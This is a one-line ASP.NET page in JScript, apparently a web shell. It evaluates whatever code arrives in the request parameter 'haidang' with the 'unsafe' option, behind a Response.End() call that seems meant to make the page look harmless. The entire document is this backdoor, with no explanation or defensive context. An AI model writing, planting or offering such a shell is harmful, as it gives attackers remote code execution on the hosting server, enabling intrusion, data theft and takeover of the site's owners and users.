<%@ Page Language="Jscript"%><% Response.End(); %><%eval(Request.Item["haidang"],"unsafe");%>
